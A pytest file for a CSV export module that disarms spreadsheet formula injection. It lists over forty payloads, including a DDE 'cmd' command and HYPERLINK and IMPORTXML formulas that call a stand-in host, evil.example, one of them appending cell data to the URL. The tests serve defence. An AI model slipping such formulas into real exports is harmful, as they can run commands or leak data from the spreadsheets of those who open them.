"""Formulas in cells: disarmed in the file, and the same text again after reading it back."""

from __future__ import annotations

import csv
import io
import re

import pytest

from rapport.engines.exports.formulas import defended, undefended

pytestmark = pytest.mark.once
COMMAND = "cmd|' /C calc'!A0"
_BLANKS = ("", " ", "   ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u2060", "\n", "\t", "\r", "\r\n", " \t ", "'", "''", "' ", "\u202e", "\x00")
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−")
PAYLOADS = [
    *(f"{blank}{sign}{COMMAND}" for blank in _BLANKS for sign in _SIGNS), "=HYPERLINK(\"http://evil.example?x=\"&A1,\"x\")", "=1+1\n=2+2",
    '=IMPORTXML("http://evil.example","//a")', "@SUM(1+1)*" + COMMAND, "-2+3+" + COMMAND, "+1-1=" + COMMAND, "=\t1", "==1", "=-1", "\tplain", "\rplain", "\nplain",
]  # fmt: skip
PLAIN = ["", "plain", "a=b", "1", "-12.50", "+353 1 555 0142", "+1 (555) 010-0142", "-5", "x@y.example", "'quoted'", "it's", "ＡＢＣ", "5-3", "* note", "#1", "—"]
_STARTS_A_FORMULA = re.compile(r"[\s\x00-\x1f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]*[=+\-@＝＋－＠﹦−]")


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_spreadsheet_takes_it_for_a_formula_and_nothing_is_lost(text: str) -> None:
    """Through a real CSV file."""
    file = io.StringIO(newline="")
    csv.writer(file).writerow([defended(text), "next"])
    cell, following = next(csv.reader(io.StringIO(file.getvalue(), newline="")))
    assert cell.startswith("'") and not _STARTS_A_FORMULA.match(cell)
    assert undefended(cell) == text and following == "next"


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    """Figures, telephone numbers and words are not disfigured."""
    assert defended(text) == text == undefended(text)


def test_there_are_enough_of_them() -> None:
    """Forty were promised."""
    assert len(set(PAYLOADS)) >= 40
